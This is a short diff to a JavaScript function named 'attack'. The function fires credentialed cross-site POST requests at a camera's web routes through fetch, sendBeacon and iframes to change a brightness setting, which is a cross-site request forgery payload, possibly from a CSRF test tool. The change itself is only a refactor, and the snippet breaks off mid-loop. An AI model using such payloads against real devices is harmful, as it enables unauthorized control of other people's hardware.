@@ -19,8 +19,9 @@ const attack = (route) => {
     const url = camera + route;
     const ignore = () => {};
     const form = new URLSearchParams({ brightness: "1" });
-    fetch(url, { method: "POST", mode: "no-cors", credentials: "include", body: form }).catch(ignore);
-    fetch(url, { method: "POST", mode: "cors", credentials: "include" }).catch(ignore);
+    const post = { method: "POST", credentials: "include" };
+    fetch(url, { ...post, mode: "no-cors", body: form }).catch(ignore);
+    fetch(url, { ...post, mode: "cors" }).catch(ignore);
     navigator.sendBeacon(url, form);
     for (const how of ["", 'referrerpolicy="no-referrer"', 'enctype="text/plain"']) {
         const frame = document.createElement("iframe");
